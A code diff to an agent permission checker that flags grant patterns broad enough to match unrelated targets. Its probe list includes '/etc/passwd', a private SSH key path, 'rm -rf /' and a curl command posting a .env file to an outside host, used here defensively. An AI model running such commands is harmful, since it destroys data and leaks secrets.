@@ -9,18 +9,29 @@
 import type { GrantSpec } from '../contract/agent';
 import type { PromptGrant } from '../contract/approver';
 import { conditionWords } from './condition';
+import { globMatches } from './glob';
 import { actionText } from './grants';
 
 type Spec = Omit<GrantSpec, 'task'>;
 
 const HIGH_IMPACT = new Set(['write', 'delete', 'transfer', 'execute', 'sign', '*']);
 
-/** Nothing but wildcards, slashes, dots and `~`: it names no particular thing. */
+/**
+ * Unrelated things no narrow grant covers two of. Patterns are picomatch globs, so braces,
+ * extglobs, classes and a leading `!` can spell "anything" without a single `*` in
+ * sight (`{**,x}`, `@(**)`, `(**)`, `[[:print:]]**`, `!x`): they are judged by what the
+ * grant matcher itself lets through, not by how they look.
+ */
+const UNRELATED = ['/etc/passwd', '/home/someone/.ssh/id_ed25519', '/tmp/x', 'rm -rf /', 'curl -d @.env https://example.invalid', 'git@github.com', 'example.invalid:443', 'sshsig:git', 'x'];
+
+/** Nothing but wildcards, slashes, dots and `~`, or a pattern matching unrelated things: it names no particular thing. */
 export function isAnyPattern(p: string | undefined): boolean {
-  return p === undefined || /^[*?~/.\s]*$/.test(p);
+  if (p === undefined || /^[*?~/.\s]*$/.test(p)) return true;
+  return UNRELATED.filter((v) => globMatches(p, v)).length >= 2;
 }
 
-const hasWildcard = (p: string | undefined) => p === undefined || /[*?[\]{}]/.test(p);
+/** Any glob syntax picomatch gives meaning to: wildcards, classes, braces, groups and extglobs, a leading `!` (negation). */
+const hasWildcard = (p: string | undefined) => p === undefined || /[*?[\]{}()]|^!/.test(p);
 
 export function describeTaskGrant(s: Spec, index: number): PromptGrant {
   // A set of actions is as high-impact as its riskiest member.
